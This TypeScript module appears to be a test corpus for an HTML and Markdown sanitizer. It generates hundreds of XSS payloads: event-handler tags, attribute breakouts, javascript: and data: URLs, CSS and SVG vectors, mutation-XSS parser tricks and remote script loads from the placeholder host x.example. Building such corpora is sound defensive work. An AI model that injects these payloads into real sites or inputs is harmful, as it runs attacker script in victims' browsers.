/** What comes alive calls this function of the page, which a browser under test has; `alert` says the same. */
export const RUN = '__ran(1)';
/** Where an attack would call home; the name is reserved and leads nowhere. */
export const HOME = 'https://x.example';
export const IMG = `<img src=x onerror=${RUN}>`;
export const SCRIPT = `<script>${RUN}</script>`;

export const times = <A, B>(one: readonly A[], other: readonly B[], make: (a: A, b: B) => string) =>
  one.flatMap((a) => other.map((b) => make(a, b)));

/** Elements that run something by themselves, or when a reader moves over them. */
const ELEMENTS = [
  ...[
    SCRIPT,
    IMG,
    `<script src=${HOME}/a.js></script>`,
    `<script type=module>${RUN}</script>`,
    `<scr<script>ipt>${RUN}`,
  ],
  ...times(
    [
      'img src=x',
      'input autofocus',
      'select autofocus',
      'video src=x',
      'audio src=x',
      'body',
      'details open',
      'x tabindex=1',
    ],
    ['onerror', 'onfocus', 'ontoggle', 'onload', 'onpointerenter', 'onanimationstart'],
    (tag, event) => `<${tag} ${event}=${RUN}>`,
  ),
  ...[
    'iframe srcdoc',
    'iframe src',
    'object data',
    'embed src',
    'base href',
    'link rel=stylesheet href',
    'form action',
  ].map((tag) => `<${tag}="${tag.endsWith('srcdoc') ? SCRIPT.replaceAll('"', "'") : `${HOME}/a`}">`),
  ...[`<meta http-equiv=refresh content="0;url=${HOME}">`, `<button form=a formaction=javascript:${RUN}>b</button>`],
  ...[
    `<div popover id=p onbeforetoggle=${RUN}>x</div>`,
    `<template><s></template>${IMG}`,
    `<noscript>${IMG}</noscript>`,
  ],
  ...[
    `<IMG/SRC=x/OnErRoR=${RUN}//`,
    `<img src=x onerror\n=\n${RUN}>`,
    `<<img src=x onerror=${RUN}//<`,
    `<img src="x"onerror="${RUN}"`,
  ],
];

/** Out of an attribute, whatever quotes it. */
const ATTRIBUTES = [
  ...times(
    ['"', "'", '`', ' ', '">', "'>", '&quot;', '&#39;', '\\"', "\\'", '"\n'],
    [
      `onmouseover=${RUN} `,
      `autofocus onfocus=${RUN} x=`,
      `style=position:fixed;inset:0 `,
      `${IMG}`,
      `id=main class=hero `,
    ],
    (quote, inner) => `x${quote} ${inner}${quote}`,
  ),
  ...['srcset', 'href', 'src', 'ping', 'formaction', 'xlink:href'].map((name) => `" ${name}="${HOME}/a 1x`),
];

const SCHEMES = [
  ...[`javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`, `java\tscript:${RUN}`],
  ...[`java\nscript:${RUN}`, `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`, `javascript://x.example/%0a${RUN}`],
  ...[`data:text/html,${SCRIPT}`, `data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==`, `vbscript:${RUN}`],
  ...[`//x.example/a`, `/\\x.example/a`, `https:x.example`, `${HOME}/a.png`, `blob:${HOME}/1`, `view-source:${HOME}`],
];
const ADDRESSES = [
  ...SCHEMES,
  ...times(
    [...SCHEMES],
    [(to: string) => `[x](${to})`, (to: string) => `<a href="${to}">x</a>`, (to: string) => `![x](<${to}>)`],
    (to, wrap) => wrap(to),
  ),
  ...times(SCHEMES.slice(0, 6), ['[x][1]\n\n[1]: ', '<', '<svg><a xlink:href='], (to, before) => `${before}${to}>`),
];

const SHEETS = [
  ...[
    `</style>${IMG}`,
    `}*{display:none}`,
    `;position:fixed;inset:0;z-index:9999`,
    `expression(${RUN})`,
    `url(${HOME}/a)`,
  ],
  ...[
    `<style>@import "${HOME}/a.css";</style>`,
    `<style>body{background:url(${HOME}/b)}</style>`,
    `red;x:url(${HOME}/c)`,
  ],
  ...[
    '<b style="font-size:900px">big</b>',
    '<p style="width:9999px">wide</p>',
    '<style>main{margin-left:-99999px}</style>',
  ],
  ...[
    `</style/>${IMG}`,
    `<style>/*</style>${IMG}*/`,
    `\\65xpression(${RUN})`,
    `<link rel=preload as=image href=${HOME}/d>`,
  ],
];

const DRAWINGS = [
  ...['onload', 'onbegin', 'onend', 'onrepeat'].map((event) => `<svg><animate ${event}=${RUN} attributeName=x dur=1s>`),
  ...[
    `<svg onload=${RUN}>`,
    `<svg/onload=${RUN}//`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href=${HOME}/a.js />`,
  ],
  ...[`<svg><use href="${HOME}/a.svg#x">`, `<svg><image href="${HOME}/a.png">`, `<svg><foreignObject>${IMG}`],
  ...[
    `<svg><set attributeName=href to=javascript:${RUN}>`,
    `<svg><style>@import "${HOME}/a"</style>`,
    `<svg><title>${IMG}`,
  ],
  ...[
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
    `<svg><desc><![CDATA[${IMG}]]>`,
  ],
];

/** Texts whose second reading is another one than the first. */
const REREAD = [
  ...times(
    ['noscript', 'textarea', 'title', 'xmp', 'style', 'iframe', 'noembed', 'noframes', 'select', 'template'],
    ['title', 'id'],
    (tag, name) => `<${tag}><p ${name}="</${tag}>${IMG}">`,
  ),
  ...times(
    ['math', 'svg'],
    ['mtext', 'mglyph', 'annotation-xml', 'desc', 'p'],
    (root, inner) => `<${root}><${inner}><style><!--</style><a title="--&gt;${IMG}">`,
  ),
  ...[`<form><math><mtext></form><form><mglyph><style></math>${IMG}`, `<table><a>${IMG}</table>`, `<!--><b>${IMG}-->`],
  ...[
    `<![CDATA[>${IMG}]]>`,
    `<!--!>${IMG}`,
    `<a title="&lt;/a&gt;${IMG}">`,
    `<b title='${IMG.replaceAll('<', '&amp;lt;')}'>`,
  ],
];

/** What is written to be read as markup, an attribute, an address or a sheet. */
export const MARKUP = [...ELEMENTS, ...ATTRIBUTES, ...ADDRESSES, ...SHEETS, ...DRAWINGS, ...REREAD];
